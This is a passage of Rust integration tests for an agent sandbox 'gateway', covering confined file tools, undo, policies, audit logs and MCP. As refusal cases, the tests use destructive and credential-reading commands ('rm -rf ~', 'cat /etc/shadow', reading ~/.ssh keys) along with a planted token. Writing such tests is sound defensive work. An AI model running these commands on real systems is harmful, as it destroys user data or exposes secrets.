        assert_eq!(
            std::fs::read_to_string(env.ws.join("d1/a/b/f.txt")).expect("r"),
            "hi"
        );
        // rm outside the workspace or of the workspace's protected paths is refused.
        std::fs::write(env.outside.join("o"), "O").expect("w");
        let o = env.gw(&["fs", "rm", env.outside.join("o").to_str().expect("utf-8")]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(env.outside.join("o").exists());
        // Emptying the trash removes items for good.
        ok(&["fs", "rm", "other.txt"]);
        let o = ok(&["trash", "empty"]);
        assert!(stdout(&o).contains("removed 1 item"), "{}", text(&o));
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("emptied"), "{}", text(&o));
        let o = ok(&["log", "query", "--json", "--limit", "0"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        let tools: Vec<&str> = v["records"]
            .as_array()
            .expect("a")
            .iter()
            .filter_map(|r| r["tool"].as_str())
            .collect();
        for t in [
            "fs.mkdir",
            "fs.mv",
            "fs.rm",
            "fs.ls",
            "undo",
            "trash.restore",
        ] {
            assert!(tools.contains(&t), "{t} not audited: {tools:?}");
        }
    }
);

sandbox_test!(
    fn fs_glob_and_grep_honour_gitignore_redact_and_stay_inside() {
        let env = Env::new("fs-search");
        let tok = gh_token(60);
        std::fs::create_dir_all(env.ws.join(".git")).expect("git");
        env.write(".gitignore", "build/\n");
        env.write("src/main.rs", "fn main() {\n    run();\n}\n");
        env.write(
            "src/lib.rs",
            &format!("pub fn run() {{}}\nconst T: &str = \"{tok}\";\n"),
        );
        env.write("build/gen.rs", "fn run() {}\n");
        std::fs::write(env.outside.join("x.rs"), "fn run() {}\n").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("src/out")).expect("ln");
        let o = env.gw(&["fs", "glob", "*.rs"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(stdout(&o), "src/lib.rs\nsrc/main.rs\n");
        let o = env.gw(&["fs", "grep", "run", "-C", "1"]);
        assert!(o.status.success(), "{}", text(&o));
        let out = stdout(&o);
        assert!(out.contains("src/main.rs:2:    run();"), "{out}");
        assert!(out.contains("src/main.rs-1-fn main() {"), "{out}");
        assert!(!out.contains("build/") && !out.contains("out/"), "{out}");
        let o = env.gw(&["fs", "grep", "const T", "--json"]);
        assert!(!stdout(&o).contains(&tok), "{}", text(&o));
        assert!(stdout(&o).contains("[REDACTED:github-pat]"), "{}", text(&o));
        let o = env.gw(&["fs", "grep", "RUN", "-i", "--mode", "count"]);
        assert_eq!(stdout(&o), "src/lib.rs:1\nsrc/main.rs:1\n", "{}", text(&o));
        // Under strict, nothing outside the workspace (and system trees) is readable; standard
        // reads `/` minus credentials, as its commands do.
        let outside = env.outside.to_str().expect("utf-8");
        let o = env.gw(&["--policy", "strict", "fs", "grep", "run", "--path", outside]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&[
            "--policy", "strict", "fs", "glob", "*.rs", "--path", outside,
        ]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&[
            "--policy", "strict", "fs", "grep", "run", "--path", "src/out",
        ]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&["--policy", "strict", "fs", "read", "src/out/x.rs"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&["fs", "grep", "(", "--path", "src"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
    }
);

sandbox_test!(
    fn fs_cd_is_a_per_session_virtual_cwd() {
        let env = Env::new("fs-cd");
        env.write("a/b/f.txt", "in b\n");
        let s = |args: &[&str]| {
            env.cmd()
                .env("GATEWAY_SESSION", "agent-1")
                .args(args)
                .output()
                .expect("run")
        };
        let o = s(&["fs", "cd", "a/b"]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).trim().ends_with("/ws/a/b"), "{}", text(&o));
        let o = s(&["fs", "read", "f.txt"]);
        assert_eq!(stdout(&o), "in b\n", "{}", text(&o));
        let o = s(&["exec", "--policy", "standard", "--", "pwd"]);
        assert!(stdout(&o).trim().ends_with("/ws/a/b"), "{}", text(&o));
        assert!(s(&["fs", "cd", ".."]).status.success());
        let o = s(&["fs", "cd", "-"]);
        assert!(stdout(&o).trim().ends_with("/ws/a/b"), "{}", text(&o));
        // Another session, and the process itself, are not moved.
        let o = env
            .cmd()
            .env("GATEWAY_SESSION", "agent-2")
            .args(["fs", "read", "f.txt"])
            .output()
            .expect("run");
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        // Refused: a file, a missing dir, a directory the policy does not let tools read.
        for bad in ["f.txt", "nope"] {
            let o = s(&["fs", "cd", bad]);
            assert_eq!(o.status.code(), Some(122), "{bad}: {}", text(&o));
        }
        let o = s(&[
            "--policy",
            "strict",
            "fs",
            "cd",
            env.outside.to_str().expect("utf-8"),
        ]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = s(&["fs", "cd", env.state.to_str().expect("utf-8")]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&["fs", "cd", "a"]);
        assert_eq!(
            o.status.code(),
            Some(122),
            "without a session: {}",
            text(&o)
        );
    }
);

sandbox_test!(
    fn exec_snapshot_lets_undo_revert_what_a_command_changed() {
        let env = Env::new("snapshot");
        env.write("a.txt", "one\n");
        env.write("b.txt", "two\n");
        env.write("sub/c.txt", "three\n");
        std::fs::create_dir_all(env.ws.join(".git")).expect("git");
        env.write(".gitignore", "build/\n");
        env.write("build/out.o", "ignored\n");
        let o = env.sh(
            "standard",
            "echo changed > a.txt; rm b.txt; echo new > d.txt; rm sub/c.txt; echo x > build/out.o",
        );
        assert!(o.status.success(), "{}", text(&o));
        assert!(stderr(&o).contains("changed 4 file(s)"), "{}", text(&o));
        let r = log_records(&env);
        assert_eq!(r[0]["files_changed"], 4, "{r:?}");
        // Something else edits d.txt: undo refuses, naming it; --force reverts anyway.
        std::fs::write(env.ws.join("d.txt"), "edited later\n").expect("w");
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("d.txt"), "{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(env.ws.join("a.txt")).expect("r"),
            "changed\n"
        );
        let o = env.gw(&["undo", "--force"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(env.ws.join("a.txt")).expect("r"),
            "one\n"
        );
        assert_eq!(
            std::fs::read_to_string(env.ws.join("b.txt")).expect("r"),
            "two\n"
        );
        assert_eq!(
            std::fs::read_to_string(env.ws.join("sub/c.txt")).expect("r"),
            "three\n"
        );
        assert!(!env.ws.join("d.txt").exists());
        // Ignored files are not snapshotted; --no-snapshot records nothing.
        assert_eq!(
            std::fs::read_to_string(env.ws.join("build/out.o")).expect("r"),
            "x\n"
        );
        let o = env
            .cmd()
            .args(["exec", "--no-snapshot", "--", "sh", "-c", "echo y > a.txt"])
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", text(&o));
        assert!(!stderr(&o).contains("changed"), "{}", text(&o));
    }
);

sandbox_test!(
    fn backup_retention_keeps_the_last_versions_per_path() {
        let env = Env::new("retention");
        let p = env.policy_file("extends = \"standard\"\n[undo]\nkeep_versions = 2\n");
        for i in 0..6 {
            let o = env.gw(&[
                "--policy",
                &p,
                "fs",
                "write",
                "v.txt",
                "--content",
                &format!("version {i}\n"),
            ]);
            assert!(o.status.success(), "{}", text(&o));
        }
        let count = || {
            std::fs::read_dir(env.state.join("backups"))
                .expect("ls")
                .flatten()
                .filter(|e| e.file_name().len() == 64)
                .count()
        };
        assert_eq!(count(), 6, "every version backed up");
        let o = env.gw(&["--policy", &p, "log", "gc"]);
        assert!(o.status.success(), "{}", text(&o));
        // The last two changes (versions 3 -> 4 -> 5) keep their contents.
        assert_eq!(count(), 3, "{}", text(&o));
        assert!(env.gw(&["--policy", &p, "undo"]).status.success());
        assert_eq!(
            std::fs::read_to_string(env.ws.join("v.txt")).expect("r"),
            "version 4\n"
        );
        let o = env.gw(&["--policy", &p, "undo", "2"]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(stderr(&o).contains("backup retention"), "{}", text(&o));
    }
);

/// `gateway --json --policy P fs probe PATH`: (read, append) results and the worker's status.
fn probe(env: &Env, policy: &str, path: &Path) -> (String, String, String) {
    let o = env.gw(&[
        "--json",
        "--policy",
        policy,
        "fs",
        "probe",
        path.to_str().expect("utf-8"),
    ]);
    assert!(o.status.success(), "probe {}: {}", path.display(), text(&o));
    let v = json_of(&o);
    let out = &v["output"];
    (
        out["open"].as_str().expect("open").to_string(),
        out["write"].as_str().expect("write").to_string(),
        out["status"].to_string(),
    )
}

sandbox_test!(
    fn fs_tools_run_in_a_confined_worker_that_the_kernel_holds() {
        // `fs probe` makes the worker open paths with plain open(2), bypassing gateway's own
        // path checks: what it cannot open, landlock refused.
        let env = Env::new("fs-worker");
        std::fs::write(env.ws.join("in.txt"), "in").expect("w");
        std::fs::write(env.outside.join("out.txt"), "out").expect("w");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
        std::fs::write(env.home.join(".ssh/id_ed25519"), "KEY").expect("w");
        // A change first: the state directory gets a journal, backups, a log and keys.
        let o = env.gw(&["fs", "write", "a.txt", "--content", "x"]);
        assert!(o.status.success(), "{}", text(&o));
        let state_files = [
            env.state.join("journal/journal.jsonl"),
            env.state.join("audit/log.jsonl"),
            env.state.join("keys/epoch-0.key"),
        ];
        for f in &state_files {
            assert!(f.exists(), "{} missing", f.display());
        }
        let denied = |r: &str, what: &str| {
            assert!(r.contains("Permission denied"), "{what}: {r}");
        };
        for policy in ["strict", "standard", "permissive"] {
            let (r, w, status) = probe(&env, policy, &env.ws.join("in.txt"));
            assert_eq!(
                (r.as_str(), w.as_str()),
                ("ok", "ok"),
                "{policy}: workspace"
            );
            for want in ["Seccomp: 2", "NoNewPrivs: 1", "CapEff: 0000000000000000"] {
                assert!(status.contains(want), "{policy}: {want} in {status}");
            }
            for f in &state_files {
                let (r, w, _) = probe(&env, policy, f);
                denied(&r, &format!("{policy}: read {}", f.display()));
                denied(&w, &format!("{policy}: append {}", f.display()));
            }
            let (r, _, _) = probe(&env, policy, &env.home.join(".ssh/id_ed25519"));
            denied(&r, &format!("{policy}: ~/.ssh"));
            let (r, _, _) = probe(&env, policy, Path::new("/etc/shadow"));
            denied(&r, &format!("{policy}: /etc/shadow"));
        }
        // strict reads nothing outside the workspace; standard reads it but writes only the
        // workspace.
        let (r, w, _) = probe(&env, "strict", &env.outside.join("out.txt"));
        denied(&r, "strict: read outside");
        denied(&w, "strict: append outside");
        let (r, w, _) = probe(&env, "standard", &env.outside.join("out.txt"));
        assert_eq!(r, "ok", "standard: read outside");
        denied(&w, "standard: append outside");
        assert_eq!(
            std::fs::read_to_string(env.outside.join("out.txt")).expect("r"),
            "out"
        );
        // Each file tool's record says how its worker was confined.
        let o = env.gw(&["log", "query", "--tool", "fs.write", "--json"]);
        let v = json_of(&o);
        let e = v["records"][0]["enforcement"]
            .as_str()
            .expect("enforcement");
        assert!(
            e.contains("landlock abi") && e.contains("seccomp true"),
            "{e}"
        );
        assert!(e.contains("caps dropped true"), "{e}");
        // A FIFO is refused at once (a plain open would block the worker).
        let st = Command::new("mkfifo")
            .arg(env.ws.join("pipe"))
            .status()
            .expect("mkfifo");
        assert!(st.success());
        let o = env.gw(&["fs", "read", "pipe"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("not a regular file"), "{}", text(&o));
    }
);

/// Runs gateway on a pseudo-terminal (python3's pty), answering `answer` to its `[y/N]`
/// prompt; returns (exit code, what the terminal showed).
fn gw_on_tty(env: &Env, args: &[&str], answer: &str) -> (i32, String) {
    const DRIVER: &str = r#"
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out, answered = b"", False
while True:
    try:
        d = os.read(fd, 4096)
    except OSError:
        break
    if not d:
        break
    out += d
    if not answered and b"[y/N]" in out:
        os.write(fd, os.environ["ANSWER"].encode() + b"\n")
        answered = True
_, st = os.waitpid(pid, 0)
sys.stdout.buffer.write(out)
sys.exit(os.waitstatus_to_exitcode(st))
"#;
    let o = Command::new("python3")
        .args(["-c", DRIVER, BIN])
        .args(args)
        .current_dir(&env.ws)
        .env("HOME", &env.home)
        .env("GATEWAY_STATE_DIR", &env.state)
        .env("GATEWAY_SOCKET", "")
        .env("ANSWER", answer)
        .env_remove("GATEWAY_POLICY")
        .output()
        .expect("python3 pty driver");
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
    )
}

sandbox_test!(
    fn fs_rm_permanent_needs_a_policy_that_allows_it_and_a_confirmation_on_a_terminal() {
        let env = Env::new("fs-purge");
        std::fs::write(env.ws.join("f.txt"), "F").expect("w");
        // strict denies it; standard asks, and without a terminal nobody approves.
        let o = env.gw(&["--policy", "strict", "fs", "rm", "--permanent", "f.txt"]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert!(stderr(&o).contains("deny-purge"), "{}", text(&o));
        let o = env.gw(&["fs", "rm", "--permanent", "f.txt"]);
        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
        assert!(env.ws.join("f.txt").exists());
        // On a terminal: standard's ask and permissive's confirmation, answered no, then yes.
        let (code, shown) = gw_on_tty(&env, &["fs", "rm", "--permanent", "f.txt"], "n");
        assert_eq!(code, 121, "{shown}");
        assert!(shown.contains("ask-purge"), "{shown}");
        assert!(env.ws.join("f.txt").exists());
        let (code, shown) = gw_on_tty(
            &env,
            &["--policy", "permissive", "fs", "rm", "--permanent", "f.txt"],
            "no",
        );
        assert_eq!(code, 121, "{shown}");
        assert!(shown.contains("not confirmed"), "{shown}");
        assert!(env.ws.join("f.txt").exists());
        let (code, shown) = gw_on_tty(&env, &["fs", "rm", "--permanent", "f.txt"], "y");
        assert_eq!(code, 0, "{shown}");
        assert!(!env.ws.join("f.txt").exists());
        // Permissive without a terminal: the policy's allow stands. A tree goes with -r
        // only, and a symbolic link in it is removed, never followed.
        std::fs::create_dir_all(env.ws.join("d/e")).expect("mkdir");
        std::fs::write(env.ws.join("d/e/g.txt"), "G").expect("w");
        std::fs::write(env.outside.join("keep.txt"), "K").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("d/out")).expect("ln");
        let o = env.gw(&["--policy", "permissive", "fs", "rm", "--permanent", "d"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&[
            "--policy",
            "permissive",
            "fs",
            "rm",
            "-r",
            "--permanent",
            "d",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stderr(&o).contains("cannot be undone"), "{}", text(&o));
        assert!(!env.ws.join("d").exists());
        assert_eq!(
            std::fs::read_to_string(env.outside.join("keep.txt")).expect("r"),
            "K"
        );
        // Nothing went to the trash; history shows it; undo says why it cannot help.
        let o = env.gw(&["trash", "list", "--json"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(json_of(&o)["items"].as_array().map(Vec::len), Some(0));
        let o = env.gw(&["history", "--json"]);
        let v = json_of(&o);
        let last = v["changes"]
            .as_array()
            .expect("a")
            .last()
            .expect("one")
            .clone();
        assert_eq!(last["change"]["tool"], "fs.rm.permanent", "{v}");
        assert_eq!(last["phase"], "committed", "{v}");
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("cannot be undone"), "{}", text(&o));
        // Every attempt is in the audit log, with the answers.
        let o = env.gw(&[
            "log",
            "query",
            "--tool",
            "fs.rm.permanent",
            "--json",
            "--limit",
            "0",
        ]);
        let v = json_of(&o);
        let recs = v["records"].as_array().expect("a");
        assert_eq!(recs.len(), 7, "{v}");
        assert!(recs.iter().any(|r| r["approved"] == false));
        assert!(recs.iter().any(|r| r["approved"] == true));
    }
);

sandbox_test!(
    fn fs_rm_refuses_a_tree_holding_a_denied_or_protected_path() {
        let env = Env::new("fs-rm-guarded");
        std::fs::create_dir_all(env.ws.join("sub/.git/hooks")).expect("mkdir");
        std::fs::write(env.ws.join("sub/.env"), "TOKEN=1").expect("w");
        let policy = env.root.join("p.toml");
        std::fs::write(
            &policy,
            "extends = \"permissive\"\n[sandbox]\ndeny = [\"${WORKSPACE}/sub/.env\"]\n",
        )
        .expect("policy");
        let p = policy.to_str().expect("utf-8");
        for args in [
            vec!["--policy", p, "fs", "rm", "-r", "sub"],
            vec!["--policy", p, "fs", "rm", "-r", "--permanent", "sub"],
        ] {
            let o = env.gw(&args);
            assert_eq!(o.status.code(), Some(122), "{args:?}: {}", text(&o));
            assert!(
                stderr(&o).contains("which the policy protects"),
                "{}",
                text(&o)
            );
        }
        assert_eq!(
            std::fs::read_to_string(env.ws.join("sub/.env")).expect("r"),
            "TOKEN=1"
        );
    }
);

sandbox_test!(
    fn fs_edits_keep_the_owner_and_mode_though_the_worker_has_no_capabilities() {
        use std::os::unix::fs::{MetadataExt, PermissionsExt};
        let env = Env::new("fs-owner");
        let p = env.ws.join("owned.txt");
        std::fs::write(&p, "one\n").expect("w");
        std::os::unix::fs::chown(&p, Some(4321), Some(4322)).expect("chown (tests run as root)");
        // Readable by others: the worker (uid 0, no capabilities) may replace it; a file
        // it could not read is refused, as a confined command would find it.
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o640)).expect("chmod");
        let o = env.gw(&["fs", "edit", "owned.txt", "--old", "one", "--new", "two"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("Permission denied"), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "one\n");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        let check = |what: &str| {
            let m = std::fs::metadata(&p).expect("m");
            assert_eq!((m.uid(), m.gid()), (4321, 4322), "{what}: owner");
            assert_eq!(m.mode() & 0o7777, 0o644, "{what}: mode");
        };
        let o = env.gw(&["fs", "edit", "owned.txt", "--old", "one", "--new", "two"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "two\n");
        check("edit");
        let o = env.gw(&["fs", "write", "owned.txt", "--content", "three\n"]);
        assert!(o.status.success(), "{}", text(&o));
        check("write");
        let o = env.gw(&["undo"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "two\n");
        check("undo");
    }
);

sandbox_test!(
    fn fs_tools_honour_the_policys_file_size_limit() {
        let env = Env::new("fs-max");
        std::fs::write(env.ws.join("big.txt"), "x".repeat(100)).expect("w");
        std::fs::write(env.ws.join("small.txt"), "tiny\n").expect("w");
        let policy = env.root.join("p.toml");
        std::fs::write(
            &policy,
            "extends = \"standard\"\n[files]\nmax_size = \"64B\"\n",
        )
        .expect("policy");
        let p = policy.to_str().expect("utf-8");
        for args in [
            vec!["--policy", p, "fs", "read", "big.txt"],
            vec!["--policy", p, "fs", "edit", "big.txt", "--append", "y"],
        ] {
            let o = env.gw(&args);
            assert_eq!(o.status.code(), Some(122), "{args:?}: {}", text(&o));
            assert!(stderr(&o).contains("max_size"), "{}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(env.ws.join("big.txt")).expect("r"),
            "x".repeat(100)
        );
        let o = env.gw(&["--policy", p, "fs", "read", "small.txt"]);
        assert!(o.status.success(), "{}", text(&o));
        // A bad size is a policy error with its position.
        std::fs::write(
            &policy,
            "extends = \"standard\"\n[files]\nmax_size = \"lots\"\n",
        )
        .expect("policy");
        let o = env.gw(&["--policy", p, "fs", "read", "small.txt"]);
        assert_eq!(o.status.code(), Some(123), "{}", text(&o));
        assert!(stderr(&o).contains("p.toml:3:"), "{}", text(&o));
    }
);

sandbox_test!(
    fn gateway_sh_behaves_like_sh_c_but_confined() {
        let env = Env::new("sh-shim");
        let run = |args: &[&str], stdin: Option<&str>| -> Output {
            let mut c = env.cmd();
            c.args(args);
            match stdin {
                Some(s) => {
                    c.stdin(Stdio::piped())
                        .stdout(Stdio::piped())
                        .stderr(Stdio::piped());
                    let mut ch = c.spawn().expect("spawn");
                    ch.stdin
                        .take()
                        .expect("stdin")
                        .write_all(s.as_bytes())
                        .expect("write");
                    ch.wait_with_output().expect("wait")
                }
                None => c.output().expect("run"),
            }
        };
        // Exit codes, $0 and positional parameters, stdout and stderr.
        let o = run(
            &[
                "sh",
                "-c",
                "echo out $0 $1; echo err >&2; exit 3",
                "me",
                "one",
            ],
            None,
        );
        assert_eq!(o.status.code(), Some(3), "{}", text(&o));
        assert_eq!(stdout(&o), "out me one\n");
        assert_eq!(stderr(&o), "err\n");
        // The spellings agents use: -lc, -c -l, options before -c.
        for args in [
            vec!["sh", "-lc", "echo ok"],
            vec!["sh", "-c", "-l", "echo ok"],
            vec!["sh", "-e", "-c", "echo ok"],
            vec!["sh", "--login", "-c", "echo ok"],
        ] {
            let o = run(&args, None);
            assert!(o.status.success(), "{args:?}: {}", text(&o));
            assert_eq!(stdout(&o), "ok\n", "{args:?}");
        }
        // stdin reaches the command.
        let o = run(&["sh", "-c", "tr a-z A-Z"], Some("piped\n"));
        assert_eq!(stdout(&o), "PIPED\n", "{}", text(&o));
        // Confined: the policy decides, and the sandbox holds.
        let o = run(&["sh", "-c", "rm -rf ~"], None);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = run(&["sh", "-c", "cat /etc/shadow"], None);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!stdout(&o).contains("root:"), "{}", text(&o));
        // A command not found is sh's 127.
        let o = run(&["sh", "-c", "no-such-command-here"], None);
        assert_eq!(o.status.code(), Some(127), "{}", text(&o));
        // Every run is in the audit log.
        let o = env.gw(&["log", "query", "--tool", "exec", "--json", "--limit", "0"]);
        assert!(json_of(&o)["records"].as_array().expect("a").len() >= 9);
        // Without -c there is nothing to run.
        let o = run(&["sh", "script.sh"], None);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        // As $SHELL: a symlink named gateway-sh is `gateway sh`.
        let link = env.root.join("gateway-sh");
        std::os::unix::fs::symlink(BIN, &link).expect("ln");
        let o = Command::new(&link)
            .args(["-c", "echo via $0"])
            .current_dir(&env.ws)
            .env("HOME", &env.home)
            .env("GATEWAY_STATE_DIR", &env.state)
            .env("GATEWAY_SOCKET", "")
            .env_remove("GATEWAY_POLICY")
            .output()
            .expect("gateway-sh");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(stdout(&o), "via /bin/sh\n");
    }
);

sandbox_test!(
    fn the_config_file_sets_defaults_that_options_override() {
        let env = Env::new("config");
        let cfg = env.root.join("config.toml");
        std::fs::write(
            &cfg,
            "policy = \"strict\"\nshell = \"/bin/bash\"\n[retention]\nkeep_versions = 3\nartifacts_max_age = \"7d\"\n",
        )
        .expect("config");
        let gw = |args: &[&str]| -> Output {
            env.cmd()
                .env("GATEWAY_CONFIG", &cfg)
                .args(args)
                .output()
                .expect("run")
        };
        let o = gw(&["--json", "config", "show"]);
        assert!(o.status.success(), "{}", text(&o));
        let v = json_of(&o);
        assert_eq!(v["found"], true);
        assert_eq!(v["policy"]["value"], "strict");
        assert_eq!(v["policy"]["from"], "config file");
        assert_eq!(v["effective_retention"]["keep_versions"], 3);
        assert_eq!(v["effective_retention"]["artifacts_max_age"], 7 * 86_400);
        assert_eq!(v["shell"], "/bin/bash");
        // The config's policy is used: strict denies fs rm --permanent (standard would ask).
        std::fs::write(env.ws.join("f"), "x").expect("w");
        let o = gw(&["fs", "rm", "--permanent", "f"]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        // ... unless an option says otherwise.
        let o = gw(&["--policy", "standard", "fs", "rm", "--permanent", "f"]);
        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
        // gateway sh runs the config's shell: bash syntax works.
        let o = gw(&[
            "--policy",
            "standard",
            "sh",
            "-c",
            "echo ${BASH_VERSION:+bash}",
        ]);
        assert_eq!(stdout(&o), "bash\n", "{}", text(&o));
        // A bad config is a policy-class error with its position.
        std::fs::write(
            &cfg,
            "policy = \"strict\"\n[retention]\nkeep_versions = 0\n",
        )
        .expect("w");
        let o = gw(&["config", "show"]);
        assert_eq!(o.status.code(), Some(123), "{}", text(&o));
        assert!(stderr(&o).contains("config.toml:3:"), "{}", text(&o));
        let o = gw(&["fs", "ls"]);
        assert_eq!(o.status.code(), Some(123), "{}", text(&o));
    }
);

/// Runs a Python MCP SDK client fixture (PyPI `mcp`, installed by .ci/run) against
/// `gateway mcp` in `env`'s workspace, with `socket` as GATEWAY_SOCKET ("" = the embedded
/// broker); returns what it printed. GATEWAY_TEST_NO_MCP_CLIENT=1 skips the MCP tests
/// explicitly (CI never sets it): `None`. Without the SDK the test fails.
fn mcp_client(
    env: &Env,
    socket: &std::ffi::OsStr,
    fixture: &str,
    args: &[&str],
    policy: Option<&str>,
) -> Option<serde_json::Value> {
    if std::env::var_os("GATEWAY_TEST_NO_MCP_CLIENT").is_some() {
        eprintln!("skipped: GATEWAY_TEST_NO_MCP_CLIENT is set");
        return None;
    }
    let script = format!("{}/tests/fixtures/{fixture}", env!("CARGO_MANIFEST_DIR"));
    let mut c = env.raw("python3");
    c.args([script.as_str(), BIN])
        .arg(&env.ws)
        .args(args)
        .env("GATEWAY_SOCKET", socket)
        .env_remove("GATEWAY_SESSION");
    if let Some(p) = policy {
        c.env("GATEWAY_POLICY", p);
    }
    let o = c.output().expect("python3");
    assert!(
        o.status.success(),
        "the MCP client failed (is the Python `mcp` package installed? pip install mcp): {}",
        text(&o)
    );
    Some(serde_json::from_slice(&o.stdout).expect("client output"))
}

/// What `tests/fixtures/mcp_client.py` saw, checked: the same whether the server is its own
/// broker or the daemon's front end. `audit` runs `gateway log ...` where the records are;
/// `client` is the caller the records name.
fn check_mcp_client_run(
    env: &Env,
    v: &serde_json::Value,
    audit: &dyn Fn(&[&str]) -> Output,
    client: &str,
) {
    assert_eq!(v["server"], "gateway");
    let tools = v["tools"].as_object().expect("tools");
    for name in [
        "exec",
        "read_file",
        "write_file",
        "edit_file",
        "glob",
        "grep",
        "list_directory",
        "move",
        "delete",
        "mkdir",
        "cd",
        "undo",
        "history",
    ] {
        let t = &tools[name];
        assert_eq!(t["schema"]["type"], "object", "{name}: {t}");
    }
    assert_eq!(tools["read_file"]["read_only"], true);
    assert_eq!(tools["delete"]["destructive"], true);
    assert_eq!(tools["read_file"]["schema"]["required"][0], "path");
    let result = |k: &str| -> serde_json::Value {
        let r = &v[k];
        assert_eq!(r["is_error"], false, "{k}: {r}");
        serde_json::from_str(r["text"].as_str().expect("text")).expect("json result")
    };
    let failed = |k: &str| -> String {
        let r = &v[k];
        assert_eq!(r["is_error"], true, "{k} should be an error result: {r}");
        r["text"].as_str().expect("text").to_string()
    };
    let e = result("exec");
    assert_eq!(e["exit_code"], 3);
    assert_eq!(e["stdout"], "hello from mcp\n");
    assert_eq!(e["stderr"], "oops\n");
    assert!(result("read")["output"]["lines"][1][1] == "beta");
    assert!(
        result("dry")["output"]["diff"]
            .as_str()
            .expect("diff")
            .contains("+gamma")
    );
    assert_eq!(result("grep")["output"]["files"][0][0], "notes.txt");
    assert!(failed("ambiguous").contains("occurs"));
    assert_eq!(
        result("cd")["cwd"],
        env.ws.join("sub").display().to_string()
    );
    assert!(
        result("ls")["output"]["entries"]
            .as_array()
            .expect("entries")
            .iter()
            .any(|e| e[0] == "notes.txt")
    );
    assert_eq!(result("delete")["output"]["undoable"], true);
    assert!(
        result("undo")["output"]["what"]
            .as_str()
            .expect("what")
            .contains("restored")
    );
    assert_eq!(
        std::fs::read_to_string(env.ws.join("sub/notes.txt")).expect("restored"),
        "alpha\ngamma\n"
    );
    assert_eq!(
        result("history")["changes"].as_array().map(Vec::len),
        Some(3)
    );
    // Refusals are tool results with isError, naming the rule and its reason.
    let d: serde_json::Value = serde_json::from_str(&failed("denied")).expect("json");
    assert_eq!(d["decision"], "deny");
    assert_eq!(d["rules"][0]["rule"], "deny-rm-root-home");
    assert!(failed("escape").contains("Permission denied"));
    assert!(failed("missing_arg").contains("path"));
    // Every call is in the audit log, recorded as the MCP client's.
    let o = audit(&["log", "query", "--json", "--limit", "0"]);
    let recs: Vec<serde_json::Value> = json_of(&o)["records"]
        .as_array()
        .expect("records")
        .iter()
        .filter(|r| r["session"].as_str().is_some_and(|s| s.starts_with("mcp-")))
        .cloned()
        .collect();
    // 15 calls reached the broker (history reads the journal; the malformed call never ran).
    assert_eq!(recs.len(), 15, "{}", recs.len());
    assert!(
        recs.iter().all(|r| r["caller"]["client"] == client),
        "{recs:?}"
    );
    let o = audit(&["log", "verify"]);
    assert!(o.status.success(), "{}", text(&o));
}

/// What `tests/fixtures/mcp_roots.py roots` saw, checked.
fn check_mcp_roots_run(env: &Env, root: &Path, v: &serde_json::Value) {
    let field = |k: &str| -> (bool, serde_json::Value) {
        let r = &v[k];
        let t = r["text"].as_str().unwrap_or_else(|| panic!("{k}: {r}"));
        (
            r["is_error"] == true,
            serde_json::from_str(t).unwrap_or_else(|_| serde_json::Value::String(t.into())),
        )
    };
    let ok = |k: &str| {
        let (err, v) = field(k);
        assert!(!err, "{k} should succeed: {v}");
        v
    };
    let refused = |k: &str, needle: &str| {
        let (err, v) = field(k);
        assert!(err, "{k} should be refused: {v}");
        assert_eq!(v["rules"][0]["rule"], "client-roots", "{k}: {v}");
        let reason = v["rules"][0]["reason"].as_str().expect("reason");
        assert!(reason.contains(needle), "{k}: {reason}");
    };
    let root_s = root.display().to_string();
